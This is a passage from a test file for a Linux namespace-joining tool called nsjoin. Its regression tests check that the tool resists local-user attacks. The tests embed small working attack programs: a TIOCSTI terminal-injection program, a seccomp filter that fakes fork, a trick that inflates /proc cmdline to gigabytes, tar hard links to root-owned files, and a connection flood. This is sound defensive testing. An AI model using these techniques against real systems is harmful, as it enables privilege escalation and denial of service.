// uid (`-u 1000`), and sets no_new_privs. The terminal still works through it.

/** Reads `Key:\tvalue` from /proc/PID/status. */
function statusField(pid: number, key: string): string {
  const line = Deno.readTextFileSync(`/proc/${pid}/status`).split("\n")
    .find((l) => l.startsWith(`${key}:`));
  return line ? line.slice(key.length + 1).trim() : "";
}

/** The pid's parent. */
const ppidOf = (pid: number): number => Number(statusField(pid, "PPid"));
const commOf = (pid: number): string => Deno.readTextFileSync(`/proc/${pid}/comm`).trim();

for (const user of [undefined, "1000"]) {
  Deno.test({
    name: `exec -it${user ? ` -u ${user}` : ""}: the terminal relay holds only CAP_KILL and ` +
      "no_new_privs; output, resize, ^C, SIGINT and the exit code still pass through",
    ignore: NEEDS_ROOT,
    async fn() {
      const target = await makeTarget({ flags: ["-u"], hostname: "relaycaps" });
      const socket = `nsjoin-relaycaps-${crypto.randomUUID().slice(0, 8)}`;
      const dir = await Deno.makeTempDir({ prefix: "nsjoin-relaycaps-" });
      const tmux = (...args: string[]) => sh("tmux", ["-L", socket, ...args]);
      const pane = async (re: RegExp): Promise<string> => {
        let text = "";
        for (let i = 0; i < 150; i++) {
          text = await tmux("capture-pane", "-p", "-t", "s");
          if (re.test(text)) return text;
          await new Promise((r) => setTimeout(r, 100));
        }
        throw new Error(`tmux pane never matched ${re}:\n${text}`);
      };
      // The program: its pid (the relay is found from it), the pty's size, a line for each
      // SIGWINCH, a count of SIGINTs (exit 7 on the second).
      await Deno.chmod(dir, 0o755);
      await Deno.writeTextFile(
        `${dir}/prog.sh`,
        `n=0; trap 'n=$((n+1)); echo got-INT$n; [ $n = 2 ] && exit 7' INT\n` +
          `trap 'echo size=$(stty size)' WINCH\n` +
          `echo P=$$ host=$(hostname) id=$(id -u); echo size=$(stty size)\n` +
          `while :; do sleep 0.1; done\n`,
      );
      const line = `${Deno.execPath()} run -A --quiet ${CLI} exec -it ` +
        `${user ? `-u ${user} ` : ""}${target.pid} sh ${dir}/prog.sh; ` +
        `echo rc=$? > ${dir}/rc.part; mv ${dir}/rc.part ${dir}/rc; sleep 30`;
      try {
        await tmux(
          "-f",
          "/dev/null",
          "new-session",
          "-d",
          "-x",
          "100",
          "-y",
          "30",
          "-s",
          "s",
          "env",
          "TERM=xterm",
          "sh",
          "-c",
          line,
        );
        const first = await pane(/^size=30 100\s*$/m);
        assertMatch(first, new RegExp(`^P=\\d+ host=relaycaps id=${user ?? 0}\\s*$`, "m"));
        const programPid = Number(/^P=(\d+)/m.exec(first)![1]);
        // The helper's processes above the program: the topmost is the relay.
        const helperComm = commOf(ppidOf(programPid));
        let relay = ppidOf(programPid);
        while (commOf(ppidOf(relay)) === helperComm) relay = ppidOf(relay);
        assertEquals(commOf(ppidOf(relay)), commOf(Deno.pid), "the relay is the CLI's child");
        assertEquals(statusField(relay, "Uid").split(/\s+/)[0], "0");
        assertEquals(statusField(relay, "CapEff"), "0000000000000020", "CAP_KILL alone");
        assertEquals(statusField(relay, "CapPrm"), "0000000000000020");
        assertEquals(statusField(relay, "CapBnd"), "0000000000000020");
        assertEquals(statusField(relay, "CapAmb"), "0000000000000000");
        assertEquals(statusField(relay, "NoNewPrivs"), "1");
        // SIGWINCH: the relay copies the new size to the pty.
        await tmux("resize-window", "-t", "s", "-x", "120", "-y", "40");
        await pane(/^size=40 120\s*$/m);
        // ^C typed: a byte through the relay, the pty sends SIGINT to its foreground job.
        await tmux("send-keys", "-t", "s", "C-c");
        await pane(/got-INT1\s*$/m); // after the "^C" the pty echoes
        // SIGINT to the relay (as the CLI forwards its own, or a cooked terminal sends it):
        // passed on to the joining process, which may be uid 1000 by now.
        Deno.kill(relay, "SIGINT");
        await pane(/^got-INT2\s*$/m);
        let rc = "";
        for (let i = 0; i < 100 && !rc; i++) {
          rc = await Deno.readTextFile(`${dir}/rc`).catch(() => "");
          if (!rc) await new Promise((r) => setTimeout(r, 100));
        }
        assertEquals(rc.trim(), "rc=7");
      } finally {
        await runPipedListing("tmux", { args: ["-L", socket, "kill-server"] });
        await target.kill();
        await Deno.remove(dir, { recursive: true });
      }
    },
  });
}

// ---- stop 17: cp into a target writes only what the target's root could write itself

Deno.test({
  name:
    "stop 17: cp into a user's namespaces never writes or chowns a host directory mounted there",
  ignore: NEEDS_ROOT,
  async fn(t) {
    // A local user's `unshare -Urm` bind-mounts a root-owned host directory (standing in for
    // /etc) where root's copy is going. Written as host root, the copy made files in it and
    // chowned it to the target's root — the user. The kernel lets a user namespace's root
    // change an inode only when its owner and group are mapped there: cp keeps to that.
    const { copyTo, tarFrom, tarTo } = await import("../src/copy.ts");
    const { encodeHeader } = await import("../src/tar.ts");
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-stop17-" });
    await Deno.chmod(dir, 0o755);
    const hostEtc = `${dir}/hostetc`;
    const home = `${dir}/u`;
    await Deno.mkdir(hostEtc, { mode: 0o755 });
    await Deno.writeTextFile(`${hostEtc}/passwd`, "root:x:0:0::/root:/bin/sh\n");
    await Deno.mkdir(home);
    await Deno.chown(home, user.uid, user.gid);
    await Deno.mkdir(`${dir}/src/conf`, { recursive: true });
    await Deno.writeTextFile(`${dir}/src/conf/app.conf`, "x=1\n");
    // A root-owned file left in the user's directory: theirs to hard-link only with root's help.
    await Deno.writeTextFile(`${home}/rootfile`, "secret\n", { mode: 0o600 });
    await using theirs = await makeTarget({
      flags: ["-U", "-r", "-m"],
      user,
      setup: `mkdir -p ${home}/dst/conf ${home}/tar && mount --bind ${hostEtc} ${home}/dst/conf`,
    });
    const untouched = () => {
      const st = Deno.statSync(hostEtc);
      assertEquals([st.uid, st.gid, st.mode! & 0o7777], [0, 0, 0o755], "host directory changed");
      assertEquals([...Deno.readDirSync(hostEtc)].map((e) => e.name), ["passwd"]);
    };
    try {
      await t.step("a directory copied onto the mounted one is refused", async () => {
        await assertRejects(
          () => copyTo(theirs.pid, `${dir}/src/conf`, `${home}/dst/`),
          /does not map/,
        );
        untouched();
      });
      await t.step("a file copied into it, or a tar extracted there, is refused", async () => {
        await assertRejects(
          () => copyTo(theirs.pid, `${dir}/src/conf/app.conf`, `${home}/dst/conf/`),
          /does not map/,
        );
        await assertRejects(
          () => tarTo(theirs.pid, `${home}/dst`, tarFrom(Deno.pid, `${dir}/src/conf`)),
          /does not map/,
        );
        await assertRejects(
          () => tarTo(theirs.pid, `${home}/dst/conf`, tarFrom(Deno.pid, `${dir}/src/conf/.`)),
          /does not map/,
        );
        untouched();
      });
      await t.step("a tar's hard link to a root-owned file is refused", async () => {
        const end = new Uint8Array(1024);
        const link = encodeHeader({
          path: "tar/x",
          type: "hardlink",
          linkname: "rootfile",
          mode: 0o600,
          uid: 0,
          gid: 0,
          size: 0,
          mtime: 0,
        });
        await assertRejects(
          () => tarTo(theirs.pid, home, new Blob([link.slice(), end]).stream()),
          /does not map/,
        );
        assertEquals(Deno.statSync(`${home}/rootfile`).nlink, 1);
      });
      await t.step(
        "a directory the tar made, mounted over before its end, is not chowned",
        async () => {
          // The tar's directories get their owner and mode last, reopened by name: the user
          // mounts the host directory over one while the stream is still coming.
          const dirEntry = encodeHeader({
            path: "late",
            type: "dir",
            mode: 0o755,
            uid: 0,
            gid: 0,
            size: 0,
            mtime: 0,
          });
          // Pulled only when read (highWaterMark 0): the second read comes once the
          // directory entry was made.
          let pulls = 0;
          const stream = new ReadableStream<Uint8Array>({
            async pull(c) {
              if (pulls++ === 0) return c.enqueue(dirEntry.slice());
              await sh("nsenter", [
                "-t",
                String(theirs.pid),
                "-U",
                "-m",
                "mount",
                "--bind",
                hostEtc,
                `${home}/dst/late`,
              ]);
              c.enqueue(new Uint8Array(1024));
              c.close();
            },
          }, { highWaterMark: 0 });
          await assertRejects(
            () => tarTo(theirs.pid, `${home}/dst`, stream),
            /does not map/,
          );
          assertEquals(pulls, 2);
          untouched();
        },
      );
      await t.step("the user's own directories still take the copy, as their root's", async () => {
        await copyTo(theirs.pid, `${dir}/src/conf`, `${home}/tar/`);
        await tarTo(theirs.pid, `${home}/tar`, tarFrom(Deno.pid, `${dir}/src/conf`));
        const st = Deno.statSync(`${home}/tar/conf/app.conf`);
        assertEquals([st.uid, st.gid], [user.uid, user.gid]);
        assertEquals(Deno.readTextFileSync(`${home}/tar/conf/app.conf`), "x=1\n");
      });
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "stop 17: cp out of a user's namespaces reads no host file their root could not read",
  ignore: NEEDS_ROOT,
  async fn() {
    // The user mounts a root-only host file into a directory root backs up; restored into
    // their namespaces (or handed to them), the backup gave them the file's content.
    const { copyFrom, tarFrom, tarTo } = await import("../src/copy.ts");
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-stop17r-" });
    await Deno.chmod(dir, 0o755);
    const home = `${dir}/u`;
    await Deno.writeTextFile(`${dir}/shadow`, "root:$6$secret\n", { mode: 0o600 });
    await Deno.mkdir(`${dir}/hostdir`, { mode: 0o700 });
    await Deno.writeTextFile(`${dir}/hostdir/key`, "host key\n", { mode: 0o644 });
    await Deno.mkdir(home);
    await Deno.chown(home, user.uid, user.gid);
    await using theirs = await makeTarget({
      flags: ["-U", "-r", "-m"],
      user,
      setup:
        `mkdir -p ${home}/data ${home}/data2 ${home}/restore && echo mine > ${home}/data/a && ` +
        `: > ${home}/data/shadow && mount --bind ${dir}/shadow ${home}/data/shadow && ` +
        `mkdir ${home}/data2/d && mount --bind ${dir}/hostdir ${home}/data2/d`,
    });
    try {
      for (const src of [`${home}/data`, `${home}/data2`, `${home}/data2/d/.`]) {
        await assertRejects(
          async () => await tarTo(theirs.pid, `${home}/restore`, tarFrom(theirs.pid, src)),
          /does not map/,
        );
        await assertRejects(() => copyFrom(theirs.pid, src, `${dir}/out`), /does not map/);
      }
      const leaked = (p: string) => {
        try {
          return Deno.readTextFileSync(p);
        } catch {
          return "";
        }
      };
      assertEquals(leaked(`${home}/restore/data/shadow`), "");
      assertEquals(leaked(`${home}/restore/data2/d/key`), "");
      // Their own files still come out.
      await copyFrom(theirs.pid, `${home}/data/a`, `${dir}/a`);
      assertEquals(Deno.readTextFileSync(`${dir}/a`), "mine\n");
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 17: a process's cmdline and environ can be any size it likes

/**
 * A process whose /proc/PID/cmdline (mode "arg") or /proc/PID/environ ("env") is `argv[2]`
 * MiB of zero pages: PR_SET_MM_MAP (allowed without privilege, prctl(2)) points the area at
 * an untouched anonymous mapping, which costs it nothing and the reader every byte.
 */
const HUGE_PROC_C = String.raw`
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <linux/prctl.h>
#include <unistd.h>
int main(int argc, char **argv) {
  size_t len = strtoul(argv[2], 0, 10) << 20;
  char *base = mmap(0, len, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
  if (base == MAP_FAILED) { perror("mmap"); return 1; }
  char buf[4096];
  FILE *f = fopen("/proc/self/stat", "r");
  if (!f || !fgets(buf, sizeof buf, f)) return 1;
  fclose(f);
  unsigned long v[64] = {0};
  int i = 3;
  for (char *t = strtok(strrchr(buf, ')') + 2, " "); t && i < 64; t = strtok(0, " ")) v[i++] = strtoul(t, 0, 10);
  struct prctl_mm_map m = {0};
  m.start_code = v[26]; m.end_code = v[27]; m.start_stack = v[28];
  m.start_data = v[45]; m.end_data = v[46]; m.start_brk = v[47]; m.brk = (unsigned long)sbrk(0);
  m.arg_start = v[48]; m.arg_end = v[49]; m.env_start = v[50]; m.env_end = v[51];
  if (strcmp(argv[1], "arg") == 0) { m.arg_start = (unsigned long)base; m.arg_end = m.arg_start + len; }
  else { m.env_start = (unsigned long)base; m.env_end = m.env_start + len; }
  m.exe_fd = -1;
  if (prctl(PR_SET_MM, PR_SET_MM_MAP, &m, sizeof m, 0) != 0) { perror("PR_SET_MM_MAP"); return 1; }
  printf("ready\n");
  fflush(stdout);
  pause();
  return 0;
}
`;

/** Runs a command to its end, sampling its peak RSS (VmHWM, KiB) as it runs. */
async function peakRss(cmd: string, args: string[]): Promise<{ peak: number; out: string }> {
  const child = new Deno.Command(cmd, { args, stdout: "piped", stderr: "inherit" }).spawn();
  let peak = 0;
  let done = false;
  const out = child.output().then((o) => {
    done = true;
    return o;
  });
  while (!done) {
    try {
      const status = Deno.readTextFileSync(`/proc/${child.pid}/status`);
      peak = Math.max(peak, Number(status.match(/VmHWM:\s+(\d+)/)?.[1] ?? 0));
    } catch {
      // Exited.
    }
    await new Promise((r) => setTimeout(r, 10));
  }
  return { peak, out: text((await out).stdout) };
}

Deno.test({
  name: "stop 17: ls and daxIn read a bounded part of a user's 1 GiB cmdline and environ (no OOM)",
  ignore: NEEDS_ROOT,
  async fn(t) {
    // A local user's process in namespaces of its own (so `ls` shows it) made its
    // cmdline 4 GiB of zero pages: root's `nsjoin ls` read it whole, twice over in memory
    // (8 GB peak, 336 s for two such processes; lsns: 0.09 s).
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-stop17p-" });
    await Deno.chmod(dir, 0o755);
    await Deno.writeTextFile(`${dir}/huge.c`, HUGE_PROC_C);
    const cc = await new Deno.Command("gcc", {
      args: ["-O2", "-o", `${dir}/huge`, `${dir}/huge.c`],
    }).output();
    assertEquals(cc.code, 0, text(cc.stderr));
    const start = async (mode: string) => {
      const child = new Deno.Command("setpriv", {
        args: [
          `--reuid=${user.uid}`,
          `--regid=${user.gid}`,
          "--clear-groups",
          "unshare",
          "-Urmn",
          `${dir}/huge`,
          mode,
          "1024",
        ],
        stdout: "piped",
        stderr: "inherit",
      }).spawn();
      const reader = child.stdout.getReader();
      const { value } = await reader.read();
      assertEquals(text(value ?? new Uint8Array()), "ready\n");
      reader.releaseLock();
      return child;
    };
    const children = [await start("arg"), await start("env")];
    try {
      const [arg, env] = children.map((c) => c.pid);
      assertEquals(Deno.statSync(`/proc/${arg}/cmdline`).size, 0); // proc says nothing
      await t.step("ls", async () => {
        const { peak, out } = await peakRss(Deno.execPath(), [
          "run",
          "-A",
          "--quiet",
          CLI,
          "ls",
          "--json",
          "-t",
          "net",
          "-o",
          "PID,COMMAND",
        ]);
        const rows = JSON.parse(out).namespaces as { pid: number; command: string }[];
        assertEquals(rows.find((r) => r.pid === arg)?.command, "huge");
        assert(peak < 400 * 1024, `peak RSS ${peak} KiB`);
      });
      await t.step("daxIn", async () => {
        const script = `${dir}/dax.ts`;
        await Deno.writeTextFile(
          script,
          `import { daxIn } from "${ROOT}dax.ts";\n` +
            `const $ = daxIn(${env});\nconsole.log(typeof $);\n`,
        );
        const { peak, out } = await peakRss(Deno.execPath(), ["run", "-A", "--quiet", script]);
        assertEquals(out.trim(), "function");
        assert(peak < 400 * 1024, `peak RSS ${peak} KiB`);
      });
    } finally {
      for (const c of children) {
        c.kill("SIGKILL");
        await c.status;
        c.stdout.cancel().catch(() => {});
      }
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 17: forward's pipes hold a bounded number of bytes, however many connections a local user leaves unread",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn() {
    // Any local user can connect to the forward's listener on 127.0.0.1. Each connection's
    // relay has a 1 MiB pipe per direction, and pipe pages are outside tcp_mem (root's are
    // outside the pipe quota too): 2000 connections whose client never read what the server
    // sent took 3.5 GB of the host's memory through `nsjoin forward`.
    const { forward } = await import("../src/forward.ts");
    const { scopedJoin } = await import("../src/scoped.ts");
    const user = await testUser();
    await using target = await makeTarget({ flags: ["-n"], setup: "ip link set lo up" });
    const join = scopedJoin(`/proc/${target.pid}/ns/net`, ["net"]);
    let inside: Deno.Listener;
    try {
      inside = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    } finally {
      join[Symbol.dispose]();
    }
    const chunk = new Uint8Array(4 << 20).fill(120);
    const conns: Deno.Conn[] = [];
    const served = (async () => {
      for await (const c of inside) {
        conns.push(c);
        c.write(chunk).catch(() => {});
      }
    })();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-stop17f-" });
    await Deno.chmod(dir, 0o755);
    // Opens N connections with a tiny receive buffer and never reads.
    await Deno.writeTextFile(
      `${dir}/client.py`,
      "import socket, sys, time\ncs = []\nfor i in range(int(sys.argv[2])):\n" +
        "    c = socket.socket(); c.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)\n" +
        "    c.connect(('127.0.0.1', int(sys.argv[1]))); cs.append(c)\n" +
        "print('connected', flush=True)\ntime.sleep(60)\n",
    );
    // The bytes waiting in every pipe of a process (FIONREAD on a reader opened by /proc; a
    // pipe's two ends are one pipe).
    await Deno.writeTextFile(
      `${dir}/held.py`,
      "import os, sys, fcntl, termios, struct\nt = 0\npid = sys.argv[1]\nseen = set()\n" +
        "for n in os.listdir(f'/proc/{pid}/fd'):\n    p = f'/proc/{pid}/fd/{n}'\n" +
        "    try:\n        link = os.readlink(p)\n" +
        "        if not link.startswith('pipe:') or link in seen: continue\n" +
        "        seen.add(link)\n" +
        "        fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)\n" +
        "    except OSError: continue\n" +
        "    t += struct.unpack('i', fcntl.ioctl(fd, termios.FIONREAD, b'0000'))[0]\n" +
        "    os.close(fd)\nprint(t)\n",
    );
    let client: Deno.ChildProcess | undefined;
    try {
      const remote = (inside.addr as Deno.NetAddr).port;
      await using fwd = await forward(target.pid, { remote, local: 0 });
      client = new Deno.Command("setpriv", {
        args: [
          `--reuid=${user.uid}`,
          `--regid=${user.gid}`,
          "--clear-groups",
          "/usr/bin/python3",
          `${dir}/client.py`,
          String(fwd.local.port),
          "300",
        ],
        stdout: "piped",
        stderr: "inherit",
      }).spawn();
      const reader = client.stdout.getReader();
      let said = "";
      while (!said.includes("\n")) {
        const { value, done } = await reader.read();
        if (done) break;
        said += text(value);
      }
      assertEquals(said, "connected\n");
      reader.releaseLock();
      // Until what the pipes hold stops growing.
      const held = async () =>
        Number(await sh("/usr/bin/python3", [`${dir}/held.py`, `${Deno.pid}`]));
      let last = -1;
      let now = await held();
      for (let i = 0; i < 60 && (now === 0 || now !== last); i++) {
        await new Promise((r) => setTimeout(r, 300));
        [last, now] = [now, await held()];
      }
      assert(now > 8 << 20, `the pipes hold only ${now} bytes: the attack did not fill them`);
      assert(now < 100 << 20, `300 unread connections hold ${now >> 20} MiB in the relay's pipes`);
    } finally {
      client?.kill("SIGKILL");
      await client?.status;
      client?.stdout.cancel().catch(() => {});
      inside.close();
      await served.catch(() => {});
      for (const c of conns) c.close();
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name: "stop 17: cp - refuses a tar whose sizes are not whole byte counts (no endless loop)",
  ignore: NEEDS_ROOT,
  async fn() {
    // A pax size of 1.5 made the reader ask for half a byte, get none, and ask again for
    // ever (a core at 100 % until killed): `nsjoin cp - TARGET:DIR < upload.tar`.
    const { encodeHeader } = await import("../src/tar.ts");
    await using target = await makeTarget({ flags: ["-m"] });
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-stop17t-" });
    try {
      for (const size of ["1.5", "-1", "1e3", "0x10", ""]) {
        // The pax record goes in by hand: encodeHeader writes only whole numbers.
        const record = new TextEncoder().encode(` size=${size}\n`);
        const len = record.length + String(record.length + 2).length;
        const body = new TextEncoder().encode(`${len} size=${size}\n`);
        const pax = encodeHeader({
          path: "PaxHeaders/f",
          type: "file",
          mode: 0o644,
          uid: 0,
          gid: 0,
          size: body.length,
          mtime: 0,
        });
        pax[156] = "x".charCodeAt(0);
        let sum = 0;
        pax.fill(0x20, 148, 156);
        for (const b of pax.subarray(0, 512)) sum += b;
        pax.set(new TextEncoder().encode(sum.toString(8).padStart(6, "0") + "\0 "), 148);
        const file = encodeHeader({
          path: "f",
          type: "file",
          mode: 0o644,
          uid: 0,
          gid: 0,
          size: 1,
          mtime: 0,
        });
        const tar = new Uint8Array(512 * 6);
        tar.set(pax.subarray(0, 512), 0);
        tar.set(body, 512);
        tar.set(file, 1024);
        tar.set([120], 1536);
        const out = await new Deno.Command(Deno.execPath(), {
          args: ["run", "-A", "--quiet", CLI, "cp", "-", `${target.pid}:${dir}`],
          stdin: "piped",
          stdout: "piped",
          stderr: "piped",
          signal: AbortSignal.timeout(20_000),
        }).spawn();
        const w = out.stdin.getWriter();
        await w.write(tar);
        await w.close();
        const { code, stderr } = await out.output();
        assertEquals(code, 1, `size ${JSON.stringify(size)}: ${text(stderr)}`);
        assertMatch(text(stderr), /^nsjoin cp: Cannot read the tar stream: .*size/);
      }
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 18: the caller's terminal (TIOCSTI), and filters that fake a fork

/**
 * A program a container controls (its `ls`, its `sh`): it pushes a line into the input of
 * every terminal it can reach with TIOCSTI — fds 0-2 and its controlling terminal
 * (/dev/tty) — and prints what took it, and which of its fds 0-2 are terminals. The kernel allows TIOCSTI without CAP_SYS_ADMIN
 * on the caller's own controlling terminal (`dev.tty.legacy_tiocsti`, 1 by default): a
 * program still in the session of root's shell types a command into it.
 */
const TIOCSTI_C = String.raw`
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>
static int push(int fd, const char *s) {
  for (const char *p = s; *p; p++) if (ioctl(fd, TIOCSTI, p) != 0) return 0;
  return ioctl(fd, TIOCSTI, "\n") == 0;
}
int main(int argc, char **argv) {
  int took = -1;
  for (int fd = 0; fd < 3 && took < 0; fd++) if (push(fd, argv[1])) took = fd;
  int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
  if (took < 0 && tty >= 0 && push(tty, argv[1])) took = 9;
  printf("sti took=%d devtty=%s ttys=%d%d%d\n", took, tty >= 0 ? "open" : "none", isatty(0),
         isatty(1), isatty(2));
  return 0;
}
`;

Deno.test({
  name: "stop 18: exec's program never types into the caller's terminal (TIOCSTI)",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sti-" });
    let target: Deno.ChildProcess | undefined;
    try {
      await Deno.writeTextFile(`${dir}/sti.c`, TIOCSTI_C);
      const cc = await new Deno.Command("gcc", {
        args: ["-static", "-O2", "-o", `${dir}/sti`, `${dir}/sti.c`],
        stderr: "piped",
      }).output();
      assert(cc.success, text(cc.stderr));
      // The target, as a docker container is: its own namespaces, no CAP_SYS_ADMIN; the
      // program on its PATH too, for daxIn.
      const setup = `mount -t tmpfs none /usr/local/bin && cp ${dir}/sti /usr/local/bin/ && ` +
        "exec setpriv --bounding-set=-sys_admin --inh-caps=-sys_admin sleep 1000";
      target = new Deno.Command("unshare", {
        // --kill-child: the pid namespace's init dies with unshare (it outlived the test).
        args: ["-p", "-m", "-u", "-i", "--fork", "--kill-child", "--mount-proc", "sh", "-c", setup],
        stdin: "null",
      }).spawn();
      let pid = 0;
      for (let i = 0; i < 200 && !pid; i++) {
        await new Promise((r) => setTimeout(r, 10));
        const kid = Number(
          Deno.readTextFileSync(`/proc/${target.pid}/task/${target.pid}/children`),
        );
        if (kid && Deno.readTextFileSync(`/proc/${kid}/comm`).trim() === "sleep") pid = kid;
      }
      assert(pid > 0, "the target did not start");
      // Root's interactive shell, on a terminal (script(1)'s pty): it runs a command, then
      // reads its next line from the terminal — whatever was typed into it meanwhile.
      // TIOCSTI queues its byte in the terminal's input before the ioctl returns, and every
      // command here but exec -d has ended when `read` starts: what it typed is already there
      // and read returns at once. The timeout is only what a clean run waits for nothing.
      const shell = async (command: string, wait = "0.5") => {
        const nonce = `INJECTED-${crypto.randomUUID()}`;
        const line = `${command.replace("NONCE", nonce)}; read -t ${wait} line; echo "GOT:$line"`;
        const child = new Deno.Command("script", {
          args: ["-qec", `bash --norc -c '${line}'`, "/dev/null"],
          stdin: "piped",
          stdout: "piped",
          stderr: "piped",
          signal: AbortSignal.timeout(60_000),
        }).spawn();
        const out = text((await child.output()).stdout);
        return { out, injected: out.includes(`GOT:${nonce}`) };
      };
      const exec = `${Deno.execPath()} run -A --quiet --no-lock ${CLI} exec ${pid}`;
      await t.step("control: nsenter's program types into it (nsenter's contract)", async () => {
        const r = await shell(`nsenter -t ${pid} -a ${dir}/sti NONCE`);
        assert(r.injected, r.out);
      });
      await t.step("exec PID with the terminal on its stdio", async () => {
        const r = await shell(`${exec} ${dir}/sti NONCE`);
        // Not even to read: what root types next would be the program's too.
        assertMatch(r.out, /sti took=-1 devtty=none ttys=000/);
        assert(!r.injected, r.out);
      });
      await t.step("exec PID with its stdio elsewhere: not through /dev/tty either", async () => {
        const r = await shell(`${exec} ${dir}/sti NONCE </dev/null 2>/dev/null | cat`);
        assertMatch(r.out, /sti took=-1 devtty=none/);
        assert(!r.injected, r.out);
      });
      await t.step("debug PID: its program, in the target's pid namespace", async () => {
        const debug = exec.replace(" exec ", " debug ");
        const r = await shell(`${debug} /target${dir}/sti NONCE`);
        assertMatch(r.out, /sti took=-1 devtty=none ttys=000/);
        assert(!r.injected, r.out);
      });
      // The library, from a script root runs on its terminal.
      const script = async (name: string, body: string) => {
        await Deno.writeTextFile(`${dir}/${name}.ts`, body);
        return await shell(`${Deno.execPath()} run -A --quiet --no-lock ${dir}/${name}.ts NONCE`);
      };
      await t.step("openSession: a session's program", async () => {
        const r = await script(
          "session",
          `import { openSession } from "${ROOT}mod.ts";
` +
            `await using s = await openSession(${pid});
` +
            `const out = await s.output("${dir}/sti", { args: [Deno.args[0]] });
` +
            `console.log(new TextDecoder().decode(out.stdout));
`,
        );
        assertMatch(r.out, /sti took=-1 devtty=none/);
        assert(!r.injected, r.out);
      });
      await t.step("daxIn: a program on the target's PATH", async () => {
        const r = await script(
          "dax",
          `import { daxIn } from "${ROOT}dax.ts";
` +
            `const $ = daxIn(${pid});
` +
            `console.log(await $\`sti \${Deno.args[0]}\`.text());
`,
        );
        assertMatch(r.out, /sti took=-1 devtty=none/);
        assert(!r.injected, r.out);
      });
      await t.step("exec -d", async () => {
        // A detached program may still run after exec returns: give it time.
        const r = await shell(
          `${exec.replace(" exec ", " exec -d ")} ${dir}/sti NONCE; sleep 1`,
          "3",
        );
        assert(!r.injected, r.out);
      });
    } finally {
      target?.kill("SIGKILL");
      await target?.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

/**
 * A target that chose its own seccomp filter (any process may, with no_new_privs): `clone`
 * "succeeds" without running (SECCOMP_RET_ERRNO with errno 0), then it becomes argv[1...].
 * The exec copies the filter and the no_new_privs it set, and installs them before it
 * forks into the target's pid namespace.
 */
const FAKE_FORK_C = String.raw`
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
  struct sock_filter f[] = {
    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_clone, 0, 1),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog p = {sizeof f / sizeof f[0], f};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)) return 2;
  if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &p)) return 3;
  execv(argv[1], argv + 1);
  return 127;
}
`;

Deno.test({
  name:
    "stop 18: a target's own filter with no_new_privs cannot fake the fork into its pid namespace",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-fakefork-" });
    const target = new Deno.Command("unshare", {
      // --kill-child: the pid namespace's init dies with unshare (it outlived the test).
      args: ["-p", "-m", "--fork", "--kill-child", "--mount-proc", `${dir}/fakefork`]
        .concat(["/bin/sleep", "1000"]),
      stdin: "null",
    });
    // A host process the program must not be able to see, let alone signal.
    const victim = new Deno.Command("sleep", { args: ["1000"], stdin: "null" }).spawn();
    let started: Deno.ChildProcess | undefined;
    try {
      await Deno.writeTextFile(`${dir}/fakefork.c`, FAKE_FORK_C);
      const cc = await runPipedOk("gcc", ["-O", "-o", `${dir}/fakefork`, `${dir}/fakefork.c`]);
      assert(cc, "gcc failed");
      started = target.spawn();
      let pid = 0;
      for (let i = 0; i < 300 && !pid; i++) {
        await new Promise((r) => setTimeout(r, 10));
        const kid = Number(
          Deno.readTextFileSync(`/proc/${started.pid}/task/${started.pid}/children`),
        );
        if (kid && /^NoNewPrivs:\s+1$/m.test(Deno.readTextFileSync(`/proc/${kid}/status`))) {
          pid = kid;
        }
      }
      assert(pid > 0, "the target did not start");
      const run = await new Deno.Command(Deno.execPath(), {
        args: ["run", "-A", "--quiet", "--no-lock", CLI, "exec", String(pid), "/bin/sh", "-c"]
          .concat([`echo pid=$$; kill -9 ${victim.pid} && echo killed`]),
        stdin: "null",
        stdout: "piped",
        stderr: "piped",
      }).output();
      const out = text(run.stdout);
      // Without the check the helper took the faked fork for its child and became the
      // program itself: in the host's pid namespace, where it killed the host's process.
      assert(!out.includes("killed"), out + text(run.stderr));
      assertEquals(run.code, 125, out + text(run.stderr));
      assertMatch(text(run.stderr), /return success without running them/);
      assertEquals(await Promise.race([victim.status.then(() => "dead"), "alive"]), "alive");
    } finally {
      for (const child of [victim, started]) {
        try {
          child?.kill("SIGKILL");
        } catch {
          // It exited already (the victim, when the attack worked).
        }
      }
      await victim.status;
      await started?.status;
      await Deno.remove(dir, { recursive: true });
    }
  },
});

async function runPipedOk(cmd: string, args: string[]): Promise<boolean> {
